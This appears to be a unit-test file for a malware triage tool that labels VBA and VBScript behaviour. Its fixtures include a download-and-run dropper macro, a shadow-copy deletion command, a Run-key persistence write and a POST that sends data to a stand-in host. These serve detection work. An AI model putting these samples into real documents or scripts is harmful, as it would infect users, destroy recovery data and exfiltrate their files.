"""What macros and VBScript do, with what flows into what."""

import pytest

from tests.unit.triage.facts.reading import acts, chains, told
from vedette.triage.fact import Act, When
from vedette.triage.kinds import Kind

DROPPER = """Sub AutoOpen()
  Dim h: Set h = CreateObject("MSXML2.XMLHTTP")
  h.Open "GET", "http://a.invalid/p.exe", False
  h.Send
  Set s = CreateObject("ADODB.Stream")
  s.Open
  s.Type = 1
  s.Write h.responseBody
  s.SaveToFile Environ("TEMP") & "\\p.exe", 2
  CreateObject("WScript.Shell").Run Environ("TEMP") & "\\p.exe", 0
End Sub
"""


def test_a_dropper_from_download_to_run() -> None:
    found = chains(DROPPER, Kind.VBA)
    assert (Act.WRITES_FILE, Act.DOWNLOADS) in found
    assert (Act.RUNS_COMMAND, Act.WRITES_FILE, Act.DOWNLOADS) in found
    assert (Act.HIDES,) in found
    assert {fact.when for fact in told(DROPPER, Kind.VBA)} == {When.OPEN}


@pytest.mark.parametrize(
    ("code", "chain"),
    [
        ('Shell "cmd /c vssadmin delete shadows /all", 0', (Act.DESTROYS_RECOVERY,)),
        ('Execute Chr(77) & Chr(115) & "gBox 1"', (Act.RUNS_CODE,)),
        ('Execute Chr(77) & Chr(115) & "gBox 1"', (Act.OBFUSCATED,)),
        (
            (
                'Set w = CreateObject("WScript.Shell")\n'
                'w.RegWrite "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "b"'
            ),
            (Act.PERSISTS,),
        ),
        (
            'Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As Long) As Long',
            (Act.INJECTS,),
        ),
        (
            'x = URLDownloadToFile(0, "http://a.invalid/a", "c:\\a.exe", 0, 0)\nShell "c:\\a.exe"',
            (Act.RUNS_COMMAND, Act.DOWNLOADS),
        ),
        (
            'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "calc.exe", Null, Null, p',
            (Act.RUNS_COMMAND,),
        ),
        ('CreateObject("Scripting.FileSystemObject").DeleteFile "c:\\a.txt"', (Act.DELETES_FILES,)),
        (
            'Set h = CreateObject("WinHttp.WinHttpRequest")\nh.Open "POST", "http://a.invalid"\nh.Send x',
            (Act.SENDS,),
        ),
        ("WScript.Sleep 600000", (Act.EVADES,)),
    ],
)
def test_what_it_does_and_from_what(code: str, chain: tuple[Act, ...]) -> None:
    assert chain in chains(code, Kind.VBSCRIPT)


def test_everyday_macros_accuse_nobody() -> None:
    code = 'Sub Total()\n  For Each c In Range("A1:A9")\n    t = t + c.Value\n  Next\n  MsgBox t\nEnd Sub\n'
    assert not acts(code, Kind.VBA)
